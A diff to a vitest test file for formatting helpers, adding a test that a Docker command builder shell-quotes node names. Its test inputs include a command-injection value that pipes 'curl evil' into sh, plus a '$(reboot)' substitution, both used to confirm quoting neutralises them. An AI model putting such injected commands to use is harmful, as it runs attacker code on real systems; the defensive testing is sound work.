@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { formatBytes, plainText, shellWord, shortId } from './format';
+import { dockerCommand, formatBytes, plainText, shellWord, shortId } from './format';
 
 test('sizes have units and about three digits, as docker images prints them', () => {
   expect(formatBytes(0)).toBe('0 B');
@@ -19,6 +19,11 @@ test('words that a shell would read differently are quoted', () => {
   expect(shellWord("it's")).toBe(`'it'\\''s'`);
   expect(shellWord('$(reboot)')).toBe("'$(reboot)'");
   expect(shellWord('')).toBe("''");
+});
+
+test('a name of the node cannot make a shown command run something else', () => {
+  expect(dockerCommand('rm', '-f', 'web')).toBe('docker rm -f web');
+  expect(dockerCommand('rm', '-f', 'x; curl evil | sh')).toBe("docker rm -f 'x; curl evil | sh'");
 });
 
 test('terminal sequences and control characters leave the log text, tabs stay', () => {
